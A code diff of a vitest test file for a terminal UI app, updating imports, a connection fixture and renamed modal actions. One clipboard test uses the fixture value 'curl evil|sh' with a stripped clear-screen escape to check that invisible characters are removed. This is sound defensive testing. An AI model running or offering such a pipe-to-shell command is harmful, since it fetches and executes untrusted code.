@@ -1,9 +1,10 @@
 import {execFileSync} from 'node:child_process';
 import {cleanup} from 'ink-testing-library';
 import {afterEach, expect, test} from 'vitest';
-import {connectedTo} from '../../src/store/connection.js';
-import {receiveComputes} from '../../src/store/computes.js';
-import {projectId} from '../control-plane/small-world.js';
+import {connectedTo} from '../../src/store/slices/connection.js';
+import {receiveComputes} from '../../src/store/updates/receive-computes.js';
+import {on} from '../../src/store/on.js';
+import {projectId} from '../control-plane/small-seed.js';
 import {compute, noon} from '../store/fixtures.js';
 import {renderConnected} from './connected-app.js';
 import {renderApp} from './render-app.js';
@@ -11,7 +12,7 @@ import {smallWorld} from './worlds.js';
 
 afterEach(cleanup);
 
-const world = [...smallWorld, connectedTo({place: 'demo', baseUrl: 'http://127.0.0.1:4610/api/v2'})];
+const world = [...smallWorld, on('connection', connectedTo({serverName: 'demo', baseUrl: 'http://127.0.0.1:4610/api/v2'}))];
 
 test('y copies the id of what the cursor is on, and shows it', async () => {
 	const {screen, press, asked} = await renderApp({changes: world});
@@ -29,7 +30,7 @@ test('what is copied is one line, and what is shown is what was copied', async (
 	press('j');
 	press('y');
 	await expect.poll(() => asked).toEqual(['copy curl evil|sh[2Jx']);
-	await expect.poll(screen).toContain('Sent to the terminal\'s clipboard, without what can\'t be seen: curl evil|sh[2Jx');
+	await expect.poll(screen).toContain('Sent to the terminal\'s clipboard, without invisible characters: curl evil|sh[2Jx');
 	press('Y');
 	await expect.poll(screen).toContain('Copy from');
 });
@@ -87,7 +88,7 @@ test('the palette finds a compute by a part of its id, and goes there though a f
 	press('2');
 	actions.finding.openFilter();
 	actions.finding.typeFilter('fog');
-	actions.layers.close();
+	actions.modals.close();
 	press(':');
 	await expect.poll(screen).toContain('╭ Command');
 	for (const character of 'sky-d4') {
@@ -102,7 +103,7 @@ test('the palette finds a compute by a part of its id, and goes there though a f
 
 test('the palette finds a branch by its name, and shows it', async () => {
 	const {screen, press, actions} = await renderApp({changes: world});
-	actions.layers.openPalette();
+	actions.modals.openPalette();
 	await expect.poll(screen).toContain('╭ Command');
 	for (const character of 'branch stag') {
 		press(character);
